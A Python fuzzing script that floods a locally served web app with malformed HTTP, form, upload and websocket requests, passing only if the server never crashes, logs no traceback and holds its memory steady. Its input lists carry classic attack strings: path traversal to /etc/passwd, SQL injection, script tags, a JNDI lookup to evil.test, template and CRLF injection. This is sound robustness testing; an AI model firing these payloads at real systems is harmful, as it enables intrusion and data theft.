"""A stranger who sends what no browser would: the server answers, says nothing odd, and holds.

Requests with garbage in every part: paths and parameters of each route, Host, Origin and cookies,
bodies of forms, JSON and uploads, handshakes and frames of the websocket, broken HTTP, halves of
requests. Titles of runs are garbage too. Passed when no answer is a 5xx but a stated 503, the log
has no traceback, and the memory of the server is flat.

    python -m bench.hostile [--requests 5000] [--seed 0]
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import random
import socket
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

from genlab.testing.served import App, serving

#: Bytes that a memory may grow by over the campaign, after the first tenth of it.
GROWTH = 40 << 20
BROWSER = {"Sec-Fetch-Dest": "document", "Accept": "text/html"}
#: {x} is garbage, {run} the id of a run.
PATHS = (
    *("/{x}", "/genlab/{x}", "/genlab/runs/{x}/delta", "/genlab/runs/{run}/delta?since={x}"),
    *("/genlab/runs/{run}/delta?{x}={x}", "/genlab/runs/{run}/clock?{x}", "/genlab/thumb/{x}.png"),
    *("/genlab/runs/{run}/frame/{x}/{x}.{x}", "/genlab/runs/{run}/frame/samples/{x}.png"),
    *("/genlab/decoder/{run}/{x}.json", "/genlab/decoder/{run}/0.json?label={x}"),
    *("/genlab/decoder/{run}/6.bin?label={x}&v={x}", "/genlab/decoder/{x}/0.bin"),
    *("/genlab/sprites/{x}.png", "/genlab/map/{x}.bin", "/genlab/static/{x}/{x}"),
    *("/genlab/rooms/{x}/state", "/join/{x}", "/claim/{x}", "/enter?{x}", "/watch?run={x}"),
    *("/compare?runs={x}", "/explore?run={x}&label={x}", "/train?{x}={x}", "/_stcore/{x}"),
    *("/media/{x}", "/component/{x}", "/static/{x}", "/_stcore/health?{x}", "/app/static/{x}"),
)
POSTS = ("/enter", "/join", "/leave", "/claim/{x}", "/genlab/rooms/{x}/lead", "/{x}", "/")
WORDS = (
    *("", "0", "-1", "1e999", "NaN", "None", "null", "true", "..", "../../etc/passwd", "%00"),
    *(
        "\x00",
        "\x7f",
        "\ud83d",
        "\U0001f4a9",
        "'",
        '"',
        "' OR 1=1 --",
        "<script>alert(1)</script>",
    ),
    *("![](http://evil.test/x.png)", "{{7*7}}", "${jndi:ldap://evil.test}", "A" * 3000),
    *("9" * 400, "shipped:vae_digits", "shipped:../x", "a/b", "a\\b", "%2e%2e%2f", "\r\nX: y"),
    *("[]", "[0]", "{}", "samples", "1.5", "0x10", "१", "ﬁ", "\u202e", "con", ".", "~"),
)
TITLES = ("![](http://evil.test/x.png)", "<img src=http://evil.test/y>", "\u202eabc", "a" * 80)


@dataclass
class Result:
    """What came of a campaign.

    Args:
        statuses: how often each; 0: no answer.
        bad: requests with a 5xx that is no stated 503.
        growth: bytes of the server's memory, since a tenth of the requests was sent.
        tracebacks: in the log.
        seconds: in all.
    """

    statuses: Counter[int] = field(default_factory=Counter)
    bad: list[str] = field(default_factory=list)
    growth: int = 0
    tracebacks: int = 0
    seconds: float = 0.0


def memory(pid: int) -> int:
    """The resident bytes of a process."""
    pages = int(Path(f"/proc/{pid}/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")


class Stranger:
    """Makes requests of garbage and sends them.

    Args:
        app: that gets them.
        seed: of the garbage.
        known: ids of runs.
    """

    def __init__(self, app: App, seed: int, known: list[str]) -> None:
        self.app, self.random, self.known = app, random.Random(seed), known
        self.kinds: tuple[Callable[[], bytes], ...] = (
            *(self.route, self.route, self.route, self.headers, self.post, self.upload),
            *(self.broken, self.websocket),
        )

    def word(self) -> str:
        """Garbage: a known bad word, or any bytes."""
        if self.random.random() < 0.7:
            return self.random.choice(WORDS)
        size = self.random.choice((1, 3, 8, 40))
        return bytes(self.random.randrange(256) for _ in range(size)).decode("latin-1")

    def path(self, patterns: tuple[str, ...]) -> str:
        """A path with garbage in it, mostly encoded as a client does, sometimes raw."""
        pattern = self.random.choice(patterns)
        parts = pattern.replace("{run}", self.random.choice(self.known)).split("{x}")
        made = parts[0]
        for part in parts[1:]:
            word = self.word()
            raw = self.random.random() < 0.1 and word.isascii() and word.isprintable()
            encoded = word if raw else quote(word.encode("utf-8", "surrogatepass"), safe="")
            made += encoded.replace(" ", "%20") + part
        return made

    def request(
        self, method: str, path: str, headers: dict[str, str], body: bytes | None = None
    ) -> bytes:
        """The bytes of a request; it asks for an end of the connection."""
        base = {"Host": f"127.0.0.1:{self.app.port}", "Connection": "close"} | headers
        if body is not None:
            base = {"Content-Length": str(len(body))} | base
        lines = [f"{method} {path} HTTP/1.1", *(f"{k}: {v}" for k, v in base.items()), "", ""]
        return "\r\n".join(lines).encode("latin-1", "replace") + (body or b"")

    def line(self) -> str:
        """Garbage that is one line of a header."""
        return self.word().replace("\r", "").replace("\n", "").replace("\x00", "")

    def route(self) -> bytes:
        """A path of the server with garbage in it."""
        return self.request(self.random.choice(("GET", "GET", "HEAD")), self.path(PATHS), BROWSER)

    def headers(self) -> bytes:
        """A foreign or broken Host, Origin, cookie or other header."""
        origins = ("null", "http://evil.test", "http://[", "x://y", "http://a:b@c", "//", "http:")
        hosts = ("evil.test", "127.0.0.1:99999", "[::1", "a b", "", "127.0.0.1, evil.test", "☃")
        name, value = self.random.choice(
            [
                ("Host", self.random.choice((*hosts, self.line()))),
                ("Origin", self.random.choice((*origins, self.line()))),
                ("Cookie", f"genlab_{self.line()}=v1.{self.line()}; {self.line()}"),
                ("X-Forwarded-For", self.line()),
                ("If-None-Match", self.line()),
                ("Range", f"bytes={self.line()}"),
                ("Accept-Encoding", self.line()),
                ("X-Genlab-Visitor", self.line()),
            ]
        )
        return self.request("GET", self.random.choice(("/", "/watch")), BROWSER | {name: value})

    def post(self) -> bytes:
        """A form or JSON of garbage."""
        kind, body = self.random.choice(
            [
                (
                    "application/x-www-form-urlencoded",
                    f"secret={quote(self.word(), errors='ignore')}",
                ),
                ("application/x-www-form-urlencoded", f"code={self.line()}&&&=%zz"),
                ("application/json", json.dumps({"path": self.word(), "query": self.word()})),
                ("application/json", self.word()),
                ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data\r\n"),
                (self.line(), self.word()),
            ]
        )
        return self.request(
            self.random.choice(("POST", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE")),
            self.path(POSTS),
            {"Content-Type": kind, "Origin": self.app.url},
            body.encode("utf-8", "replace"),
        )

    def upload(self) -> bytes:
        """An upload without a session, with and without the token."""
        headers = {"Content-Type": "multipart/form-data; boundary=x"}
        if self.random.random() < 0.5:
            headers |= {"X-Xsrftoken": "a", "Cookie": "_streamlit_xsrf=a"}
        content = self.word().encode("utf-8", "replace") * self.random.choice((1, 1000))
        body = b'--x\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + content
        body += self.random.choice((b"\r\n--x--\r\n", b""))
        method = self.random.choice(("PUT", "PUT", "DELETE", "POST"))
        return self.request(method, self.path(("/_stcore/upload_file/{x}/{x}",)), headers, body)

    def broken(self) -> bytes:
        """What is no HTTP, or half of it."""
        host = f"Host: 127.0.0.1:{self.app.port}\r\n".encode()
        return self.random.choice(
            [
                b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
                b"GET\r\n\r\n",
                b"GET / HTTP/9.9\r\n" + host + b"\r\n",
                b"GET / HTTP/1.1\r\n\r\n",
                b"GET / HTTP/1.1\r\n" + host + host + b"\r\n",
                b"GET / HTTP/1.1\r\n" + host + b"A: " + b"b" * 100_000 + b"\r\n\r\n",
                b"POST /enter HTTP/1.1\r\n" + host + b"Content-Length: 99\r\n\r\nhalf",
                b"POST /join HTTP/1.1\r\n" + host + b"Content-Length: -1\r\n\r\n",
                b"POST /join HTTP/1.1\r\n" + host + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
                b"GET /genlab/../../etc/passwd HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n",
                self.line().encode("utf-8", "replace") + b"\r\n\r\n",
            ]
        )

    def websocket(self) -> bytes:
        """A handshake, mostly foreign, and frames of garbage after it."""
        headers = {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": base64.b64encode(self.random.randbytes(16)).decode(),
            "Origin": self.random.choice((self.app.url, "http://evil.test", "null", self.line())),
        }
        if self.random.random() < 0.3:
            headers["Host"] = self.random.choice(("evil.test", self.line()))
        path = self.random.choice(("/_stcore/stream", "/_stcore/stream?x=1", "/genlab/x", "/"))
        return self.request("GET", path, headers) + self.frame()

    def frame(self) -> bytes:
        """A masked frame with bytes that are no message of Streamlit."""
        content = self.random.randbytes(self.random.choice((0, 1, 5, 60, 120)))
        opcode = self.random.choice((0x82, 0x81, 0x82, 0x83, 0x88, 0x02))
        return bytes([opcode, 0x80 | len(content)]) + b"\0\0\0\0" + content

    def send(self, request: bytes) -> tuple[int, bytes]:
        """Send a request; the status of the answer, 0 for none, and the answer."""
        # What is no whole request gets an answer at once or none.
        whole = b"Connection: close" in request
        with socket.create_connection(("127.0.0.1", self.app.port), timeout=10) as link:
            answer = b""
            try:
                link.sendall(request)
                link.settimeout(10 if whole else 1)
                while part := link.recv(65_536):
                    answer += part
                    if not whole or len(answer) > 1 << 20:
                        break
            except (ConnectionError, TimeoutError):
                pass
        words = answer[:40].split(b" ")
        status = int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
        return status, answer


def wait_until_warm(app: App, patience: float = 90.0) -> None:
    """Wait until the imports of the server are over: its memory stands still for two seconds."""
    until, last, still = time.monotonic() + patience, 0, 0
    while time.monotonic() < until and still < 4:
        time.sleep(0.5)
        now = memory(app.process.pid)
        still, last = (still + 1 if abs(now - last) < 1 << 20 else 0), now


def campaign(app: App, requests: int, seed: int = 0) -> Result:
    """Send the requests of a stranger to a server.

    Args:
        app: the server; ``genlab.runs`` of this process is on its store.
        requests: how many.
        seed: of the garbage.
    """
    from genlab import runs
    from genlab.core.errors import GenlabError
    from genlab.testing.scripted_run import ScriptedRun

    one = ScriptedRun(runs.store(), runs.files(), title=TITLES[0])
    one.look()
    one.go(10)
    known = [one.id, *(view.id for view in runs.list_shipped()[:2])]
    wait_until_warm(app)
    stranger, result = Stranger(app, seed, known), Result()
    begun, before = time.monotonic(), memory(app.process.pid)
    for k in range(requests):
        if k == requests // 10:
            before = memory(app.process.pid)
        if k % 50 == 0:
            title = stranger.random.choice((*TITLES, stranger.word()))
            try:
                runs.edit(one.id, title=title)
            except GenlabError:
                result.statuses[400] += 1
        request = stranger.random.choice(stranger.kinds)()
        status, answer = stranger.send(request)
        result.statuses[status] += 1
        if status >= 500 and status != 503:
            result.bad.append(f"{request[:300]!r} -> {answer[:300]!r}")
    result.growth = memory(app.process.pid) - before
    result.tracebacks = app.log.read_text(errors="replace").count("Traceback")
    result.seconds = time.monotonic() - begun
    return result


def main() -> int:
    """Run the campaign; 1 where it did not pass."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--requests", type=int, default=5000)
    parser.add_argument("--seed", type=int, default=0)
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, serving(Path(folder)) as app:
        result = campaign(app, given.requests, given.seed)
        text = app.log.read_text(errors="replace")
    print(f"{given.requests} requests in {result.seconds:.0f} s: {dict(result.statuses)}")
    print(f"memory grew by {result.growth / 2**20:.1f} MiB; {result.tracebacks} tracebacks")
    for one in result.bad[:20]:
        print(one)
    if result.tracebacks:
        print(text[text.index("Traceback") - 300 :][:6000])
    return int(bool(result.bad or result.tracebacks or result.growth > GROWTH))


if __name__ == "__main__":
    sys.exit(main())
